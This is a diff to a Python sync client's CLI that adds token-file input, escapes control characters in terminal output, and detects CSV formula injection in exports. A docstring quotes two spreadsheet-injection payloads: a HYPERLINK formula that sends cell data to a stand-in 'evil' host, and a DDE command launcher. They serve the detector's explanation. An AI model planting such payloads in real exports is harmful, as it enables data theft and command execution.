@@ -36,6 +36,7 @@ from core.errors import ConfigError, HubError, OutpostError, StorageError, Valid
 from core.heap import GC_YOUNG, settle_heap
 from core.ids import clean_key
 from core.model import Action, Cmd
+from core.printable import escape_controls, shown_key
 from core.revision import ZERO_REV, Rev, format_rev, parse_rev, unix_rev
 from core.satellite.api import (
     ASIDE,
@@ -50,9 +51,12 @@ from core.satellite.api import (
     refused_here,
 )
 from core.satellite.config import (
+    TOKEN_ENV,
     DataDir,
     check_hub_url,
+    clear_text_warning,
     default_data_dir,
+    given_token,
     other_default_replica,
     read_schema_file,
 )
@@ -157,7 +161,12 @@ def add_commands(sub: Any) -> None:
                    "operator)")
     p.add_argument("--token", default=None,
                    help="your token (from `outpost-hub user add NAME`); write --token=T so a "
-                   "token starting with '-' is taken as is")
+                   "token starting with '-' is taken as is; `--token -` reads it from "
+                   "standard input. A token on the command line is seen by other users "
+                   "(ps) and kept in your shell's history: prefer --token-file or "
+                   f"${TOKEN_ENV}")
+    p.add_argument("--token-file", metavar="FILE", default=None,
+                   help="read the token from the first line of FILE")
     p.add_argument("--timeout", type=_seconds, default=10.0,
                    help="seconds to wait for the hub (default 10)")
     p.add_argument("--schema", metavar="FILE", default=None,
@@ -346,7 +355,8 @@ def _out(args: argparse.Namespace, obj: Any, text: str) -> None:
     if args.json:
         print(json.dumps(obj, default=str))
     else:
-        print(text)
+        # keys (and values) a hub holds may carry ESC, BEL, U+202E: never raw to a terminal
+        print(escape_controls(text, keep="\n\t"))
 
 
 def _open(args: argparse.Namespace) -> Satellite:
@@ -451,6 +461,10 @@ def _value(f: Any, text: str, sat: Satellite | None = None) -> Any:
 
 def _cmd_connect(args: argparse.Namespace) -> int:
     check_hub_url(args.url)  # a mistyped URL is refused before anything is stored
+    args.token = given_token(args.token, args.token_file, sys.stdin)
+    warn = clear_text_warning(args.url, bool(args.token))
+    if warn:
+        print(f"outpost: {warn}", file=sys.stderr)
     dd = DataDir(args.data)
     dd.check_not_file()
     # a directory that exists is locked first: a running app or `outpost sync` would keep
@@ -548,7 +562,7 @@ def _cmd_pub(args: argparse.Namespace) -> int:
         print(f"outpost: warning: {name}={value} names no {ref} record this replica has "
               f"(published anyway: it may not have arrived yet; `outpost show {ref}` lists "
               "the keys)", file=sys.stderr)
-    _out(args, {"key": key, "uid": uid}, f"{key} {uid}")
+    _out(args, {"key": key, "uid": uid}, f"{shown_key(key)} {uid}")
     return 0
 
 
@@ -925,7 +939,7 @@ _MOST_LINES = 20
 
 def rejection_line(r: Receipt) -> str:
     """One line for a rejected transaction: its records, uid, why, and how to resolve it."""
-    recs = list(dict.fromkeys(f"{a.top} {a.key}" for a in r.acts))
+    recs = list(dict.fromkeys(f"{a.top} {shown_key(a.key)}" for a in r.acts))
     what = ", ".join(recs[:3]) + (f" and {len(recs) - 3} more records" if len(recs) > 3
                                   else "")
     if is_put_aside(r):  # sent, its answer lost (a daql hub): nothing was rejected
@@ -935,7 +949,7 @@ def rejection_line(r: Receipt) -> str:
                 "--keep theirs drops it")
     if overwrote(r):  # applied by a daql hub over a colleague's change: on the hub
         theirs = "; ".join(
-            (f"{c.top} {c.key}: " if len(recs) > 1 else "")
+            (f"{c.top} {shown_key(c.key)}: " if len(recs) > 1 else "")
             + ", ".join(f"{f} {_short(json.dumps(v, ensure_ascii=False, default=str), 80)}"
                         for f, v in (c.theirs or {}).items())
             + (f" ({c.usr or 'someone'}, {format_rev(c.rev)})" if c.rev else "")
@@ -946,7 +960,7 @@ def rejection_line(r: Receipt) -> str:
                 "theirs back (`outpost conflicts` shows base, mine and theirs)")
     if r.conflicts:
         why = "; ".join(
-            (f"{c.top} {c.key}: " if len(recs) > 1 else "") + c.reason + (
+            (f"{c.top} {shown_key(c.key)}: " if len(recs) > 1 else "") + c.reason + (
                 ", ".join(f" ({', '.join(fs)})" + (f" by {u}" if u else "")
                           + (f" at {format_rev(rv)}" if rv else "") for rv, u, fs in c.groups())
                 if c.by else (f" ({', '.join(c.fields)})" if c.fields else "")
@@ -956,7 +970,7 @@ def rejection_line(r: Receipt) -> str:
                                          if len(r.conflicts) > 3 else "")
     else:
         why = r.err or "rejected"
-    clashed = {f"{c.top} {c.key}" for c in r.conflicts}
+    clashed = {f"{c.top} {shown_key(c.key)}" for c in r.conflicts}
     here = refused_here(r)  # found here, never sent (a daql hub): not "rejected"
     if here:
         why = (f"{_short(why, 300)}; not sent: this hub (daql) does not check an edit "
@@ -1152,7 +1166,8 @@ def _cmd_show(args: argparse.Namespace) -> int:
              "pending" if v.pending else "lost by hub" if v.key in lost else "confirmed",
              "fields": dict(v.fields or {})} for v in views]
     _out(args, rows if args.key is None else rows[0],
-         "\n".join(f"{r['key']}\t{r['state']}\t{json.dumps(r['fields'], ensure_ascii=False)}"
+         "\n".join(f"{shown_key(r['key'])}\t{r['state']}\t"
+                   f"{json.dumps(r['fields'], ensure_ascii=False)}"
                    for r in rows))
     return 0
 
@@ -1270,10 +1285,11 @@ def _cmd_conflicts(args: argparse.Namespace) -> int:
             for r, fields in recs]
 
     def settled_text(r: Any, by: Any) -> str:
-        same = ", ".join(f"{c.top} {c.key} " + ", ".join(
+        same = ", ".join(f"{c.top} {shown_key(c.key)} " + ", ".join(
             f"{f} {_shown((c.theirs or {}).get(f))}" for f in c.fields) for c in r.conflicts)
         sent = (f"; your other changes sent as transaction {by.uid} ("
-                + ", ".join(f"{a.top} {a.key} " + ", ".join(a.arg or ()) for a in by.acts) + ")"
+                + ", ".join(f"{a.top} {shown_key(a.key)} " + ", ".join(a.arg or ())
+                            for a in by.acts) + ")"
                 if by is not None else "; nothing else to send: dropped")
         return f"{r.uid}\t{SETTLED} ({same}){sent}"
 
@@ -1282,7 +1298,8 @@ def _cmd_conflicts(args: argparse.Namespace) -> int:
               "explain": [settled_text(r, by).partition("\t")[2]]} for r, by in settled]
 
     def line(f: Any) -> str:
-        what = f"{f.top} {f.key} " + (f"{f.field}" if f.field != WHOLE else "(whole record)")
+        what = f"{f.top} {shown_key(f.key)} " + (f"{f.field}" if f.field != WHOLE
+                                                 else "(whole record)")
         if f.reason == ASIDE:  # sent, answer lost: the edit's value, the hub's now
             return f"  {what}: mine {_shown(f.mine)} | hub now {_shown(f.theirs)}"
         # a record created under a taken key and changed after: who changed theirs last
@@ -3100,7 +3117,19 @@ def _cmd_export(args: argparse.Namespace) -> int:
     w = out.writer(sys.stdout)
     w.writerow(out.header())
     w.writerows(out.row(v) for v in views)
+    if out.formulas:
+        sys.stdout.flush()
+        print(f"outpost: warning: {formula_warning(out.formulas)}: use `outpost export "
+              f"{shlex.quote(args.topic)} --for-spreadsheet` for a file to open in a "
+              "spreadsheet (`outpost import --from-spreadsheet` reads it back)",
+              file=sys.stderr)
     return 0
+
+
+def formula_warning(n: int) -> str:
+    """What a plain export says of its ``n`` cells a spreadsheet would run as formulas."""
+    return (f"{n:,} cell{'s' if n != 1 else ''} a spreadsheet would run as formula"
+            f"{'s' if n != 1 else ''} (starting with = + - @ or a tab)")
 
 
 class CsvExport:
@@ -3110,6 +3139,9 @@ class CsvExport:
 
     def __init__(self, model: Any, rev: Rev | None = None, *, sheet: bool = False):
         self.sheet = sheet  # --for-spreadsheet: formula-leading cells get a ' (for_sheet)
+        self.formulas = 0
+        """Cells written so far that a spreadsheet would run as formulas (plain export only:
+        said after it, with the fix; session 15: written raw, without a word)."""
         self.names = model.field_names()
         self.as_json = {f.name for f in model.fields if f.type == "json"}  # "12" stays a str
         self.tail = [format_rev(rev)] if rev is not None else []
@@ -3127,13 +3159,23 @@ class CsvExport:
         row = [v.key, *("" if f.get(n) is None else
                         json.dumps(f[n]) if n in self.as_json or isinstance(f[n], bool)
                         else f[n] for n in self.names), *self.tail]
-        return [for_sheet(str(c)) for c in row] if self.sheet else row
+        if self.sheet:
+            return [for_sheet(str(c)) for c in row]
+        self.formulas += sum(1 for c in row if type(c) is str and runs_as_formula(c))
+        return row
 
 
 # A cell a spreadsheet reads as a formula starts with one of these (OWASP, "CSV Injection":
 # = + - @, tab, carriage return; a line feed and the full-width forms some read alike too)
 _FORMULA = frozenset("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")
 _NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?")
+
+
+def runs_as_formula(cell: str) -> bool:
+    """Whether a spreadsheet opening a CSV would take ``cell`` for a formula (and run it:
+    ``=HYPERLINK("http://evil/"&A1)``, ``+cmd|' /C calc'!A0``): it starts with a character
+    of :data:`_FORMULA` and is not a number such as ``-1.5``."""
+    return bool(cell) and cell[0] in _FORMULA and not _NUMBER.fullmatch(cell)
 
 
 def for_sheet(cell: str) -> str:
@@ -3186,7 +3228,7 @@ def run(args: argparse.Namespace) -> int:
         sys.stdout.flush()  # here, so a closed pipe is caught below
         return rc
     except OutpostError as exc:
-        print(f"outpost: {exc}", file=sys.stderr)
+        print(escape_controls(f"outpost: {exc}", keep="\n\t"), file=sys.stderr)
         return 1
     except BrokenPipeError:
         # the reader of the output went away (`outpost show T | head`): not an error of ours;
